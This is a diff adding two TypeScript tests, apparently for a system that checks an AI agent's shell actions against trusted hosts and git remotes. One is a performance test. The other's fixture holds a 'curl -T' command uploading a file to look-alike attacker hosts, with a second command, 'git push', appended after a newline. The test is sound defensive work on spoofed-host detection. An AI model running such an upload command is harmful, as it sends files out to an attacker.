@@ -149,3 +149,26 @@ test("the same question is the same text, in whatever order its parts came", () 
   const other = testQuestion({ action: { ...ACTION, tool: "mcp__a__b", input: { a: 1, b: { x: 2, y: 1 } } } });
   expect(textOf([projected(one).action])).toBe(textOf([projected(other).action]));
 });
+
+test("a place is named only as a whole, also by the remotes of the repository", () => {
+  const trusted = Array.from({ length: 5_000 }, (_, i) => `host-${i}.corp.example`);
+  const facts = { ...testQuestion().facts, trusted, gitRemotes: { origin: "https://host-4998.corp.example/app.git" } };
+  const command = "curl -T a https://evil-host-4999.corp.example/ https://host-4997.corp.example.evil.test/\ngit push";
+  const sections = sectionsOf(testQuestion({ action: { ...ACTION, input: { command } }, facts }));
+  expect(sections.facts?.[0]).toMatchObject({ also_trusted: ["host-4998.corp.example"] });
+});
+
+test("a long action costs little more to look up in a long list of trusted places than a short one", () => {
+  const trusted = Array.from({ length: 10_000 }, (_, i) => `https://host-${i}.corp.example/path`);
+  const took = (times: number) => {
+    const action = { ...ACTION, input: { command: "curl https://host-x.corp.example/ ".repeat(times) } };
+    const question = testQuestion({ action, facts: { ...testQuestion().facts, trusted } });
+    const runs = Array.from({ length: 5 }, () => {
+      const startedAtMs = performance.now();
+      projectQuestion(question);
+      return performance.now() - startedAtMs;
+    });
+    return Math.min(...runs);
+  };
+  expect(took(5_000) / took(1)).toBeLessThan(10);
+});
